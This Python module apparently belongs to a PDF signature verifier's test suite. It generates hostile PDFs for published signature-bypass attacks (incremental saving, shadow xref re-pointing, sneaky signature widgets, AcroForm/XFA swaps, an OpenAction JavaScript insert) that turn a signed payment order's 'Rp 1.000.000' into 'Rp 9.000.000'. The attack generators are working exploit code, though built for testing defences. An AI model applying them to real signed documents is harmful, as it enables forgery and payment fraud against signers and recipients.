"""Generators for hostile PDFs, one per published attack class and variant, and for legitimate
controls made by other tools.

Attack classes (in our own words):
- Incremental Saving Attack (Mladenov et al. 2019, "1 Trillion Dollar Refund"): a later
  revision redefines content the signature covered.
- Shadow attacks (Mainka et al. 2021): the signed file already carries a hidden copy ("shadow")
  of content; after signing, a revision only re-points cross-reference entries (hide, replace,
  hide-and-replace), frees an overlay, or swaps a whole xref.
- Evil Annotation / Sneaky Signature attacks (Mainka et al. 2021, certified documents):
  annotations, or signature fields without a signature, whose appearance covers content.
- Catalog, form and action changes (AcroForm swapped, /NeedAppearances, /XFA, /OpenAction).

Every base letter says "Jumlah: Rp 1.000.000" when signed; an effective attack makes a reader
show "Rp 9.000.000" (or drop the 1.000.000 overlay). The tests check the effect with poppler's
pdftotext where the attack changes page content, so a generator that stopped attacking fails.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Callable

from pdfraw import (STREAM, TABLE, Doc, Entry, append_revision, catalog_body, last_trailer,
                    object_body, offsets_of, stream_body)

HEAD = b"BT /F1 14 Tf 72 760 Td (SURAT PERINTAH PEMBAYARAN) Tj ET\n"


def amount(text: bytes) -> bytes:
    return b"BT /F1 12 Tf 72 700 Td (Jumlah: Rp " + text + b") Tj ET\n"


IMAGE_DRAW = b"q 60 0 0 60 450 660 cm /Im1 Do Q\n"
GOOD = HEAD + amount(b"1.000.000") + IMAGE_DRAW
EVIL = HEAD + amount(b"9.000.000") + IMAGE_DRAW
# Paints over the amount and writes another one: what an overlay or appearance would draw.
COVER = b"q 1 1 1 rg 66 690 300 30 re f Q\n" + amount(b"9.000.000")
GOOD_AMOUNT = b"1.000.000"
EVIL_AMOUNT = b"9.000.000"

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> /XObject << /Im1 6 0 R >> >> /Contents %s >>")


def image(pixels: bytes) -> bytes:
    return stream_body(b"/Type /XObject /Subtype /Image /Width 2 /Height 2 "
                       b"/ColorSpace /DeviceGray /BitsPerComponent 8", pixels)


def content(data: bytes) -> bytes:
    return stream_body(b"", data)


def base(kind: str, variant: str = "plain") -> bytes:
    """The letter before signing, with whatever an attacker plants in it beforehand."""
    d = Doc(version="1.3" if variant == "pdf13" else "1.7")
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    contents = b"5 0 R"
    info = None
    undefined: list[int] = []
    extra_objstm = []
    in_objstm: list[int] = []
    if variant == "metadata_is_content":
        catalog = b"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>"
    if variant == "info_is_content":
        info = 5
    if variant == "overlay":
        contents = b"[5 0 R 8 0 R]"
    if variant == "undefined":
        contents = b"[5 0 R 10 0 R]"
        undefined = [10]
    if variant == "form":
        catalog = (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [9 0 R] "
                   b"/DA (/F1 0 Tf 0 g) /DR << /Font << /F1 4 0 R >> >> >> >>")
    d.add(1, catalog)
    d.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    page = PAGE % contents
    if variant == "form":
        page = page[:-2] + b"/Annots [9 0 R] >>"
    d.add(3, page)
    d.add(4, FONT)
    if variant == "shadow_same":
        # The shadow: an earlier definition of the content stream, which the xref skips.
        d.add(5, content(EVIL))
    d.add(5, content(EVIL if variant == "overlay" else GOOD))
    d.add(6, image(b"\x00\xff\xff\x00"))
    if variant in ("shadow_other", "objstm"):
        d.add(7, content(EVIL))
    if variant == "overlay":
        d.add(8, content(b"q 1 1 1 rg 66 690 300 30 re f Q\n" + amount(GOOD_AMOUNT)))
    if variant == "form":
        d.add(9, b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Jumlah) /V (1.000.000) "
                 b"/Rect [300 560 500 590] /F 4 /P 3 0 R /AP << /N 13 0 R >> >>")
        d.add(13, stream_body(b"/Type /XObject /Subtype /Form /BBox [0 0 200 30] "
                              b"/Resources << /Font << /F1 4 0 R >> >>",
                              b"/Tx BMC BT /F1 12 Tf 4 10 Td (1.000.000) Tj ET EMC"))
    if variant == "objstm":
        # The page and its font live in an object stream; a second, unreferenced object
        # stream holds a shadow page whose content is stream 7.
        in_objstm = [3, 4]
        extra_objstm = [(12, [(3, PAGE % b"7 0 R")])]
    return d.build(kind, 1, info=info, in_objstm=in_objstm, objstm_num=11 if in_objstm else None,
                   extra_objstm=extra_objstm, undefined=undefined)


# ----------------------------------------------------------------------------------------------
# Helpers over a signed file
# ----------------------------------------------------------------------------------------------

def next_num(data: bytes) -> int:
    return last_trailer(data).size + 1


def ref_list(text: bytes) -> list[int]:
    return [int(x) for x in re.findall(rb"(\d+)\s+0\s+R", text)]


def add_to_annots(data: bytes, page: int, ref: int) -> list[tuple[int, bytes]]:
    """Redefinitions that append `ref` to the page's /Annots (direct or indirect array)."""
    body = object_body(data, page)
    m = re.search(rb"/Annots\s*(\d+)\s+0\s+R", body)
    if m:
        arr = object_body(data, int(m.group(1)))
        return [(int(m.group(1)), arr[:arr.rindex(b"]")] + b" %d 0 R]" % ref)]
    m = re.search(rb"/Annots\s*\[([^\]]*)\]", body)
    if m:
        new = body[:m.end() - 1] + b" %d 0 R" % ref + body[m.end() - 1:]
    else:
        new = body[:body.rindex(b">>")] + b" /Annots [%d 0 R] >>" % ref
    return [(page, new)]


def acroform_location(data: bytes) -> tuple[int | None, bytes]:
    """(object number of an indirect /AcroForm or None, its dictionary text)."""
    cat = catalog_body(data)
    m = re.search(rb"/AcroForm\s*(\d+)\s+0\s+R", cat)
    if m:
        return int(m.group(1)), object_body(data, int(m.group(1)))
    start = cat.index(b"/AcroForm")
    i = cat.index(b"<<", start)
    depth, j = 0, i
    while True:
        if cat[j:j + 2] == b"<<":
            depth += 1
            j += 2
        elif cat[j:j + 2] == b">>":
            depth -= 1
            j += 2
            if depth == 0:
                return None, cat[i:j]
        else:
            j += 1


def add_to_fields(data: bytes, ref: int) -> list[tuple[int, bytes]]:
    num, form = acroform_location(data)
    m = re.search(rb"/Fields\s*(\d+)\s+0\s+R", form)
    if m:
        arr = object_body(data, int(m.group(1)))
        return [(int(m.group(1)), arr[:arr.rindex(b"]")] + b" %d 0 R]" % ref)]
    m = re.search(rb"/Fields\s*\[([^\]]*)\]", form)
    new_form = form[:m.end() - 1] + b" %d 0 R" % ref + form[m.end() - 1:]
    if num is not None:
        return [(num, new_form)]
    cat = catalog_body(data)
    return [(last_trailer(data).root, cat.replace(form, new_form))]


def signature_field(data: bytes) -> tuple[int, int]:
    """(field object, signature dictionary) of the first signed field."""
    _, form = acroform_location(data)
    m = re.search(rb"/Fields\s*(\d+)\s+0\s+R", form)
    fields = ref_list(object_body(data, int(m.group(1)))) if m else \
        ref_list(re.search(rb"/Fields\s*\[([^\]]*)\]", form).group(1))
    for f in fields:
        body = object_body(data, f)
        v = re.search(rb"/V\s+(\d+)\s+0\s+R", body)
        if v and b"/Sig" in body:
            return f, int(v.group(1))
    raise ValueError("no signed field")


def appearance(n: int, data: bytes = COVER) -> tuple[int, bytes]:
    return n, stream_body(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                          b"/Resources << /Font << /F1 4 0 R >> >>", data)


def cover_annotation(n: int, ap: int, subtype: bytes, extra: bytes = b"") -> tuple[int, bytes]:
    return n, (b"<< /Type /Annot /Subtype /" + subtype + b" /Rect [0 0 595 842] /F 4 /P 3 0 R "
               b"/AP << /N %d 0 R >> " % ap + extra + b">>")


# ----------------------------------------------------------------------------------------------
# The attacks: signed bytes -> attacked bytes
# ----------------------------------------------------------------------------------------------

def isa_content(s: bytes) -> bytes:
    return append_revision(s, [(5, content(EVIL))])


def isa_contents_ref(s: bytes) -> bytes:
    n = next_num(s)
    page = object_body(s, 3).replace(b"/Contents 5 0 R", b"/Contents %d 0 R" % n)
    return append_revision(s, [(n, content(EVIL)), (3, page)])


def shadow_same_number(s: bytes) -> bytes:
    return append_revision(s, [], entries={5: Entry("n", offsets_of(s, 5)[0])})


def shadow_other_number(s: bytes) -> bytes:
    return append_revision(s, [], entries={5: Entry("n", offsets_of(s, 7)[0])})


def full_xref_without_prev(s: bytes) -> bytes:
    entries = {0: Entry("f")}
    for n in range(1, last_trailer(s).size):
        offs = offsets_of(s, n)
        if offs:
            entries[n] = Entry("n", offs[-1])
    entries[5] = Entry("n", offsets_of(s, 5)[0])
    return append_revision(s, [], entries=entries, prev=False)


def objstm_repoint(s: bytes) -> bytes:
    return append_revision(s, [], entries={3: Entry("c", 12, 0)})


def free_overlay(s: bytes) -> bytes:
    return append_revision(s, [], entries={8: Entry("f")})


def define_undefined(s: bytes) -> bytes:
    return append_revision(s, [(10, content(COVER))])


def redefine_content(s: bytes) -> bytes:
    return append_revision(s, [(5, content(EVIL))])


def image_swap(s: bytes) -> bytes:
    return append_revision(s, [(6, image(b"\xff\x00\x00\xff"))])


def sneaky_signature_field(s: bytes) -> bytes:
    n = next_num(s)
    ap = appearance(n + 1)
    w = (n, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [0 0 595 842] /F 4 "
            b"/P 3 0 R /AP << /N %d 0 R >> >>" % (n + 1))
    return append_revision(s, [w, ap, *add_to_annots(s, 3, n), *add_to_fields(s, n)])


def disguised_widget(s: bytes) -> bytes:
    n = next_num(s)
    return append_revision(s, [cover_annotation(n, n + 1, b"FreeText", b"/FT /Sig "),
                               appearance(n + 1), *add_to_annots(s, 3, n)])


def widget_of_existing_signature(s: bytes) -> bytes:
    field, _ = signature_field(s)
    n = next_num(s)
    return append_revision(s, [cover_annotation(n, n + 1, b"Widget", b"/Parent %d 0 R " % field),
                               appearance(n + 1), *add_to_annots(s, 3, n)])


def second_field_same_value(s: bytes) -> bytes:
    _, sig = signature_field(s)
    n = next_num(s)
    w = (n, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Kedua) /V %d 0 R /Rect [0 0 595 842] "
            b"/F 4 /P 3 0 R /AP << /N %d 0 R >> >>" % (sig, n + 1))
    return append_revision(s, [w, appearance(n + 1), *add_to_annots(s, 3, n), *add_to_fields(s, n)])


def acroform_swap(extra: bytes) -> Callable[[bytes], bytes]:
    def attack(s: bytes) -> bytes:
        num, form = acroform_location(s)
        n = next_num(s)
        text = extra % (n + 1) if b"%d" in extra else extra
        new_form = form[:form.rindex(b">>")] + b" " + text + b" >>"
        cat = catalog_body(s)
        objs = [(n, new_form)]
        if b"/XFA" in extra:
            objs.append((n + 1, stream_body(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")))
        if num is None:
            cat = cat.replace(form, b"%d 0 R" % n)
        else:
            cat = cat.replace(b"/AcroForm %d 0 R" % num, b"/AcroForm %d 0 R" % n)
        return append_revision(s, [*objs, (last_trailer(s).root, cat)])
    return attack


def open_action_script(s: bytes) -> bytes:
    cat = catalog_body(s)
    cat = cat[:cat.rindex(b">>")] + b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return append_revision(s, [(last_trailer(s).root, cat)])


def hidden_revision(s: bytes) -> bytes:
    signed_start = last_trailer(s).startxref
    hidden = append_revision(s, [(5, content(EVIL))])
    n = next_num(hidden)
    return append_revision(hidden, [(n, b"<< /Producer (Sahih test) >>")], info=n, prev=signed_start)


def new_page(s: bytes) -> bytes:
    n = next_num(s)
    pages = object_body(s, 2).replace(b"/Kids [3 0 R]", b"/Kids [3 0 R %d 0 R]" % n)
    pages = pages.replace(b"/Count 1", b"/Count 2")
    return append_revision(s, [(n, PAGE % (b"%d 0 R" % (n + 1))), (n + 1, content(EVIL)), (2, pages)])


def free_text_annotation(s: bytes) -> bytes:
    n = next_num(s)
    return append_revision(s, [cover_annotation(n, n + 1, b"FreeText", b"/Contents (9.000.000) /DA (/F1 12 Tf 0 g) "),
                               appearance(n + 1), *add_to_annots(s, 3, n)])


def note_over_amount(s: bytes) -> bytes:
    n = next_num(s)
    return append_revision(s, [cover_annotation(n, n + 1, b"Text"), appearance(n + 1),
                               *add_to_annots(s, 3, n)])


@dataclass(frozen=True)
class Attack:
    name: str
    variant: str
    apply: Callable[[bytes], bytes]
    kinds: tuple[str, ...] = (TABLE, STREAM)
    # What pdftotext shows afterwards, proving the attack works on a real reader:
    # "evil" = the 9.000.000 amount appears, "hide" = the 1.000.000 overlay is gone, None = not
    # checked through text (annotations, structure).
    effect: str | None = None


ATTACKS = [
    Attack("isa_content", "plain", isa_content, effect="evil"),
    Attack("isa_contents_ref", "plain", isa_contents_ref, effect="evil"),
    Attack("shadow_same_number", "shadow_same", shadow_same_number, effect="evil"),
    Attack("shadow_other_number", "shadow_other", shadow_other_number),
    Attack("full_xref_without_prev", "shadow_same", full_xref_without_prev, effect="evil"),
    Attack("objstm_repoint", "objstm", objstm_repoint, kinds=(STREAM,), effect="evil"),
    Attack("free_overlay", "overlay", free_overlay, effect="hide"),
    Attack("define_undefined", "undefined", define_undefined, effect="evil"),
    Attack("info_is_content", "info_is_content", redefine_content, effect="evil"),
    Attack("metadata_is_content", "metadata_is_content", redefine_content, effect="evil"),
    Attack("image_swap", "plain", image_swap),
    Attack("sneaky_signature_field", "plain", sneaky_signature_field),
    Attack("disguised_widget", "plain", disguised_widget),
    Attack("widget_of_existing_signature", "plain", widget_of_existing_signature),
    Attack("second_field_same_value", "plain", second_field_same_value),
    Attack("acroform_need_appearances", "plain", acroform_swap(b"/NeedAppearances true")),
    Attack("acroform_xfa", "plain", acroform_swap(b"/XFA %d 0 R")),
    Attack("open_action_script", "plain", open_action_script),
    Attack("hidden_revision", "plain", hidden_revision),
    Attack("new_page", "plain", new_page),
    Attack("free_text_annotation", "plain", free_text_annotation),
    Attack("note_over_amount", "plain", note_over_amount),
]
